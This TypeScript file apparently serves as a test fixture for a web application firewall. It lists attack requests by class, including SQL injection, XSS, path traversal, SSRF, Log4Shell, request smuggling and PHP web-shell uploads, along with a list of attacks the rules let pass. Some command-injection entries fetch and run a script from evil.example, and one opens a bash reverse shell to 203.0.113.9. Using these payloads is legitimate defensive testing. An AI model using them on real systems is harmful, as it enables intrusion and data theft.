import { type Attack, query, upload, type WafRequest } from "./request";

const of = (name: string, requests: readonly WafRequest[]): Attack[] =>
  requests.map((request) => ({ class: name, ...request }));

const post = (name: string, note: string): WafRequest => ({
  name,
  method: "POST",
  json: { name: "x", note },
});

const form = (name: string, text: string): WafRequest => ({
  name,
  method: "POST",
  form: { name: text },
});

const agent = (name: string): WafRequest => ({ name, headers: { "user-agent": name } });

/** Attacks of our own, against what the rule set says it stops (PR-12). */
export const ATTACKS: readonly Attack[] = [
  ...of("SQL injection", [
    { name: "always true in a query", path: query("1' OR '1'='1' -- ") },
    {
      name: "UNION SELECT in a query",
      path: query("-1 UNION SELECT usename, passwd FROM pg_shadow"),
    },
    { name: "stacked DROP TABLE in a query", path: query("1; DROP TABLE items; --") },
    { name: "time-based, PostgreSQL", path: query("1' AND 1=(SELECT 1 FROM pg_sleep(5)) -- ") },
    { name: "time-based, MySQL", path: query("1' AND SLEEP(5)#") },
    { name: "time-based, SQL Server", path: query("1'; WAITFOR DELAY '0:0:5'--") },
    post("UNION SELECT in JSON", "x' UNION ALL SELECT NULL,version(),NULL-- "),
    form("log-in bypass in a form", "admin'/**/OR/**/1=1#"),
    { name: "in a cookie", headers: { cookie: "sid=' OR 1=1 UNION SELECT password FROM users--" } },
    {
      name: "schema asked for",
      path: query("1 AND (SELECT table_name FROM information_schema.tables LIMIT 1)='a'"),
    },
  ]),
  ...of("Cross-site scripting", [
    { name: "script tag in a query", path: query("<script>alert(1)</script>") },
    {
      name: "event handler in a query",
      path: query('"><img src=x onerror=alert(document.cookie)>'),
    },
    { name: "SVG onload in a query", path: query("<svg/onload=alert(1)>") },
    { name: "javascript: address", path: query('<a href="javascript:alert(1)">x</a>') },
    post("script tag in JSON", "<script src=//evil.example/x.js></script>"),
    form("iframe in a form", '<iframe src="javascript:alert(1)"></iframe>'),
    { name: "in the Referer", headers: { referer: "https://x.example/<script>alert(1)</script>" } },
    {
      name: "twice encoded",
      path: "/api/v1/items?limit=1&q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    },
  ]),
  ...of("Path traversal", [
    { name: "dots in a query", path: query("../../../../etc/passwd") },
    { name: "dots, encoded", path: "/api/v1/items?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd" },
    { name: "dots, over-long UTF-8", path: "/api/v1/items?file=..%c0%af..%c0%afetc/passwd" },
    { name: "backslashes", path: query("..\\..\\..\\windows\\win.ini") },
    { name: "beyond the root in the path", path: "/api/../../../../etc/passwd" },
    post("dots in JSON", "../../../../../../etc/shadow"),
  ]),
  ...of("Command injection", [
    { name: "semicolon cat", path: query("; cat /etc/passwd") },
    { name: "pipe to a shell", path: query("| wget http://evil.example/x.sh -O- | sh") },
    { name: "substitution", path: query("$(curl http://evil.example/`whoami`)") },
    { name: "backquotes", path: query("`/bin/cat /etc/passwd`") },
    { name: "Shellshock", headers: { "user-agent": "() { :; }; /bin/bash -c 'id'" } },
    { name: "Windows cmd", path: query("& cmd.exe /c dir C:\\") },
    { name: "PowerShell", path: query("; powershell -EncodedCommand SQBFAFgA; Invoke-Expression") },
    post("reverse shell in JSON", "; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
  ]),
  ...of("File inclusion", [
    { name: "PHP filter", path: query("php://filter/convert.base64-encode/resource=index.php") },
    {
      name: "data: stream",
      path: query("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+"),
    },
    { name: "remote file by IP address", path: "/api/v1/items?page=http://203.0.113.9/shell.txt" },
    {
      name: "remote file with a question mark",
      path: "/api/v1/items?include=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
    },
    { name: "PHP code in a query", path: query("<?php system($_GET['c']); ?>") },
    { name: "/proc/self/environ", path: query("/proc/self/environ") },
  ]),
  ...of("Server-side request forgery", [
    { name: "cloud metadata", path: "/api/v1/items?url=http://169.254.169.254/latest/meta-data/" },
    { name: "loopback with a port", path: "/api/v1/items?url=http://127.0.0.1:6379/" },
    { name: "private address, encoded", path: "/api/v1/items?url=http%3A%2F%2F10.0.0.1%2Fadmin" },
    { name: "file:// of the host", path: "/api/v1/items?url=file:///etc/passwd" },
    { name: "in a form", method: "POST", form: { url: "http://192.168.0.1/router" } },
  ]),
  ...of("Server-side code", [
    { name: "Log4Shell in a query", path: query("${jndi:ldap://evil.example/a}") },
    post("Node.js child process", "require('child_process').exec('id')"),
    post("Java reflection", "java.lang.Runtime.getRuntime().exec('id')"),
  ]),
  ...of("Protocol abuse", [
    { name: "an invented method", method: "PROPFIND" },
    {
      name: "a GET with a body and a length",
      method: "GET",
      headers: { "content-length": "5" },
      body: "hello",
    },
    {
      name: "two Content-Lengths",
      raw: "POST /api/v1/items HTTP/1.1\r\nHost: {host}\r\nX-Request-Id: {id}\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
    },
    {
      name: "Content-Length and chunks",
      raw: "POST /api/v1/items HTTP/1.1\r\nHost: {host}\r\nX-Request-Id: {id}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    },
    {
      name: "no Host",
      raw: "GET /api/v1/items HTTP/1.1\r\nX-Request-Id: {id}\r\nConnection: close\r\n\r\n",
    },
    { name: "a NUL in the path", path: "/api/v1/items%00.php?limit=1" },
    {
      name: "an unknown content type",
      method: "POST",
      headers: { "content-type": "application/x-evil" },
      body: "x",
    },
  ]),
  ...of("Scanners", [
    agent("sqlmap/1.7.2#stable (https://sqlmap.org)"),
    agent("Nikto/2.5.0"),
    agent("Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
    agent("masscan/1.3"),
    agent("nuclei/3.1"),
    { name: "a look for .git", path: "/.git/config" },
    { name: "a look for .env", path: "/.env" },
    { name: "a look for .htaccess", path: "/.htaccess" },
  ]),
  ...of("Header injection", [
    {
      name: "a new header in a query",
      path: "/api/v1/items?limit=1&next=x%0d%0aSet-Cookie:%20sid=evil",
    },
    {
      name: "a whole answer in a query",
      path: "/api/v1/items?next=%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html",
    },
    { name: "Location in a query", path: "/api/v1/items?next=a%0aLocation:%20http://evil.example" },
    {
      name: "a bare line feed in a header",
      raw: "GET /api/v1/items HTTP/1.1\r\nHost: {host}\r\nX-Request-Id: {id}\r\nX-A\n: b\r\n\r\n",
    },
    {
      name: "a NUL in a header",
      raw: "GET /api/v1/items HTTP/1.1\r\nHost: {host}\r\nX-Request-Id: {id}\r\nX-A: b\0c\r\n\r\n",
    },
  ]),
  ...of("Oversized and malformed bodies", [
    {
      name: "a body over the limit",
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ name: "x".repeat(4_300_000) }),
    },
    {
      name: "JSON that ends too soon",
      method: "POST",
      headers: { "content-type": "application/json" },
      body: '{"name":"x',
    },
    {
      name: "JSON a hundred deep",
      method: "POST",
      headers: { "content-type": "application/json" },
      body: `${"[".repeat(100)}${"]".repeat(100)}`,
    },
    {
      name: "multipart without its end",
      method: "POST",
      headers: { "content-type": "multipart/form-data; boundary=aa" },
      body: '--aa\r\nContent-Disposition: form-data; name="f"\r\n\r\nx',
    },
    { name: "a PHP file as an upload", ...upload("shell.php", "<?php system($_GET['c']); ?>") },
    {
      name: "a .htaccess as an upload",
      ...upload(".htaccess", "AddType application/x-httpd-php .jpg"),
    },
    {
      name: "more than 1000 parameters",
      method: "POST",
      headers: { "content-type": "application/x-www-form-urlencoded" },
      body: Array.from({ length: 1_100 }, (_, i) => `a${i}=1`).join("&"),
    },
  ]),
];

/**
 * What the rule set lets pass at paranoia 1: in the docs, so that nobody relies on it. Each is for the services
 * themselves to refuse.
 */
export const NOT_STOPPED: readonly WafRequest[] = [
  { name: "gopher to Redis", path: "/api/v1/items?url=gopher://127.0.0.1:6379/_FLUSHALL" },
  { name: "Log4Shell in a header", headers: { "x-api-version": "${jndi:ldap://evil.example/a}" } },
  {
    name: "prototype pollution by constructor",
    path: query("constructor.constructor('return process')()"),
  },
  {
    name: "XML with an external entity",
    method: "POST",
    headers: { "content-type": "application/xml" },
    body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  },
  { name: "broken percent-encoding", path: "/api/v1/items?limit=1&q=%zz%u12" },
];
